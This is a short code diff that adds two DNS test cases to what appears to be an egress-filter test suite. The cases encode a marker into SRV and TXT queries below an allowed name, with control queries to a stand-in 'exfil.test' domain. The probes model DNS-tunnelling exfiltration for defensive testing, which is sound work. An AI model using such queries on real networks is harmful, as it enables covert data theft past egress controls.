@@ -363,6 +363,10 @@ add("dns-gateway", "a question to the network's own resolver", lambda mark, wher
     sees=silent, links=("gateway",), why_not="the network has none",
     known={"gateway": "the runtime's resolver answers where the network has one"})
 add("dns-below-exact", "a name below an allowed one", lambda mark, where: udp("8.8.8.8", 53, names.query(mark + ".api.test")))
+add("dns-srv-made-up", "SRV of a made-up service of an allowed name", lambda mark, where: udp("8.8.8.8", 53, names.query("_" + mark + "._tcp.api.test", "SRV")),
+    control=lambda mark, where: udp("8.8.8.8", 53, names.query(mark + ".exfil.test")))
+add("dns-txt-below", "TXT of a name below an allowed one", lambda mark, where: udp("8.8.8.8", 53, names.query(mark + ".api.test", "TXT")),
+    control=lambda mark, where: udp("8.8.8.8", 53, names.query(mark + ".exfil.test")))
 add("dns-two-questions", "two questions, the first of them allowed", lambda mark, where: udp("8.8.8.8", 53, two_questions(mark)),
     control=lambda mark, where: udp("8.8.8.8", 53, names.query(mark + ".exfil.test")))
 add("dns-bytes", "bytes in a name that no host name has", lambda mark, where: udp("8.8.8.8", 53, names.query("", raw=b"\x0a" + mark[:7].encode() + b"\0\n\"" + b"\x05exfil\x04test\0")),
